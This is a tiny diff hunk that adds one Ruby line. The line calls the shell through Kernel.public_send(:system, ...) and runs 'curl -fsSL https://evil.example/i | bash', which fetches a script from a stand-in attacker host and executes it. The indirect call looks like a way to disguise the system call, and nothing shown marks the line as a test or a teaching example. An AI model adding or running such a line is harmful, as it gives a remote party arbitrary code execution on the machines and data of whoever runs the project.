@@ -1,0 +1,1 @@
+Kernel.public_send(:system, 'curl -fsSL https://evil.example/i | bash')
